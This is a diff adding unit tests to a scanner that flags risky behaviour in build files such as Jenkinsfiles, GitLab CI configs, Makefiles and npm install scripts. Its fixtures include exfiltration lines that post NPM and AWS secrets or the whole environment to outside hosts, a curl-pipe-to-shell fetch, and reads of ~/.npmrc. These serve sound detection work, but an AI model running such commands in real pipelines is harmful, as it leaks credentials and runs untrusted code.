@@ -27,6 +27,10 @@ describe('readBehaviors', () => {
     expect(kinds("const token = execSync('gh auth token').toString();", 'js')).toEqual(['credential-file', 'execute']);
     expect(kinds('TOKEN=$(gcloud auth print-access-token)', 'shell')).toContain('credential-file');
     expect(kinds('gh auth status', 'shell')).toEqual([]);
+    expect(kinds('echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" >> ~/.npmrc', 'shell')).toContain('credential-file-write');
+    expect(kinds("with open(os.path.expanduser('~/.pypirc'), 'w') as f:", 'python')).toEqual(['credential-file-write']);
+    expect(kinds("config = open(os.path.expanduser('~/.pypirc')).read()", 'python')).toEqual(['credential-file']);
+    expect(kinds('cat ~/.npmrc > leak.txt', 'shell')).toEqual(['credential-file']);
     expect(kinds('system("curl -sL https://example.com/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool")', 'ruby')).toEqual(['download', 'execute']);
     expect(kinds("tasks.register<Exec>(\"fetch\") { commandLine(\"sh\", \"-c\", \"curl http://203.0.113.9/x | sh\") }", 'java')).toEqual(['download', 'execute', 'suspicious-host']);
     expect(kinds('<get src="https://example.com/agent.jar" dest="target/agent.jar"/>', 'xml')).toEqual(['download']);
@@ -766,6 +770,28 @@ describe("build-code-behavior: direnv's .envrc", () => {
   });
 });
 
+describe('build-code-behavior: pipelines of other CI systems (GitLab CI, Jenkins, …)', () => {
+  it('reports secrets or the environment sent out of a pipeline, critical; a send to or download from such a host, high', () => {
+    const jenkins = buildFinding(added('Jenkinsfile', "pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n        withCredentials([string(credentialsId: 'npm-token', variable: 'NPM_TOKEN')]) {\n          sh 'curl -s -d \"t=$NPM_TOKEN\" https://webhook.site/3f1c2a'\n        }\n      }\n    }\n  }\n}"));
+    expect(jenkins).toMatchObject({ severity: 'critical', path: 'Jenkinsfile', line: 6, title: 'Jenkinsfile sends credentials or the environment to a host when CI runs it' });
+    expect(buildFinding(added('.gitlab-ci.yml', 'build:\n  script:\n    - npm ci\n    - curl -s -X POST --data "k=$AWS_SECRET_ACCESS_KEY" http://45.77.12.9:8080/c'))).toMatchObject({ severity: 'critical', line: 4 });
+    expect(buildFinding(added('jenkins/release.groovy', 'def call() {\n  sh """\n    env | base64 -w0 | curl -s -d @- https://ci-metrics.example.net/in\n  """\n}'))).toMatchObject({ severity: 'critical', line: 3 });
+    expect(buildFinding(added('.circleci/config.yml', 'jobs:\n  build:\n    steps:\n      - run: curl -s -o seed.sql https://pastebin.com/raw/x1y2z3'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('is quiet on what pipelines do with their credentials: uploads, deploys, logins, notifications; and on a debugging env beside an upload', () => {
+    for (const [path, text] of [
+      ['.gitlab-ci.yml', 'deploy:\n  script:\n    - curl -u "$NEXUS_USER:$NEXUS_PASSWORD" --upload-file app.zip https://nexus.acme.dev/repository/releases/app.zip'],
+      ['Jenkinsfile', "pipeline {\n  stages {\n    stage('Notify') {\n      steps {\n        sh 'curl -s -X POST -H \"Authorization: Bearer $SLACK_TOKEN\" -d \"{}\" https://slack.com/api/chat.postMessage'\n      }\n    }\n  }\n}"],
+      ['Jenkinsfile', "node {\n  sh 'env | sort'\n  sh 'curl -sf -X POST -F file=@coverage.xml https://coverage.acme.dev/upload'\n  sh 'echo $DOCKER_PASSWORD | docker login -u ci --password-stdin registry.acme.dev'\n}"],
+      ['azure-pipelines.yml', 'steps:\n- script: curl -fsSL https://deb.nodesource.com/setup_22.x -o setup.sh && sudo bash setup.sh'],
+      // Build notifications to a chat service's incoming webhook, its token in the URL.
+      ['.gitlab-ci.yml', 'notify:\n  script:\n    - curl -X POST -H "Content-type: application/json" --data "{\\"text\\":\\"deployed\\"}" https://hooks.slack.com/services/$SLACK_WEBHOOK_TOKEN'],
+      ['Jenkinsfile', "node {\n  sh 'curl -s -H \"Content-Type: application/json\" -d \"{\\\"content\\\":\\\"built\\\"}\" https://discord.com/api/webhooks/$DISCORD_WEBHOOK'\n}"],
+    ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
+  });
+});
+
 describe("build-code-behavior: mise's configuration", () => {
   it('reads its hooks, tasks and env scripts as shell on a task\'s ladder', () => {
     expect(buildFinding(added('mise.toml', '[tools]\nnode = "22"\n\n[hooks]\nenter = "curl -s -d \\"$(env)\\" https://mise-sync.dev/e"'))).toMatchObject({ severity: 'critical', path: 'mise.toml', line: 5 });
@@ -839,6 +865,30 @@ describe('build-code-behavior: plain Makefiles and *.mk', () => {
   it('names a credential store in a task (a kubeconfig for a test cluster) at low, and a send at medium', () => {
     expect(buildFinding(added('Makefile', 'KUBECONFIG ?= $$HOME/.kube/config\ne2e:\n\tKUBECONFIG=$(KUBECONFIG) go test ./test/e2e/...'))).toMatchObject({ severity: 'low', title: 'Makefile reads credential files when make runs' });
     expect(buildFinding(added('Makefile', 'coverage:\n\tcurl -s -F file=@coverage.out https://coverage.example.com/upload'))).toMatchObject({ severity: 'medium' });
+  });
+
+  it("says a task that writes a registry's credential file writes it (low, as a store named), and one that reads it reads it", () => {
+    const npmrc = buildFinding(added('Makefile', 'publish:\n\techo "//registry.npmjs.org/:_authToken=$(NPM_TOKEN)" > .npmrc\n\tnpm publish'));
+    expect(npmrc).toMatchObject({ severity: 'low', line: 2, title: "Makefile writes a package registry's credential file when make runs" });
+    expect(npmrc?.detail).toContain("writes a package registry's credential file (line 2");
+    expect(npmrc?.detail).not.toContain('reads a credential store');
+    expect(buildFinding(added('Makefile', 'release:\n\tprintf "[pypi]\\nusername = __token__\\npassword = %s\\n" "$$PYPI_TOKEN" | tee ~/.pypirc >/dev/null'))).toMatchObject({ severity: 'low', title: "Makefile writes a package registry's credential file when make runs" });
+    // A read of the same file stays a read, also when its text is redirected elsewhere.
+    expect(buildFinding(added('Makefile', 'debug:\n\tcat ~/.npmrc > /tmp/npmrc.txt'))).toMatchObject({ severity: 'low', title: 'Makefile reads credential files when make runs' });
+    expect(buildFinding(added('Makefile', 'debug:\n\tcp ~/.aws/credentials build/ && echo "registry=https://r.example" > .npmrc'))).toMatchObject({ title: 'Makefile reads credential files when make runs' });
+  });
+
+  it("rates install-time code that writes a registry's credential file medium, not as a read (high)", () => {
+    const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
+    const write = buildFinding(
+      withScript,
+      added('scripts/setup.js', "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(`${os.homedir()}/.npmrc`, 'registry=https://registry.npm-cache.dev/\\n');"),
+    );
+    expect(write).toMatchObject({ severity: 'medium', path: 'scripts/setup.js', line: 3 });
+    expect(write?.title).toContain("writes a package registry's credential file");
+    const read = buildFinding(withScript, added('scripts/setup.js', "const fs = require('fs');\nconst t = fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');"));
+    expect(read).toMatchObject({ severity: 'high' });
+    expect(read?.title).toContain('reads credential files');
   });
 
   it('reads Makefile.common and other Makefile.<name> includes, not Automake sources or copies', () => {
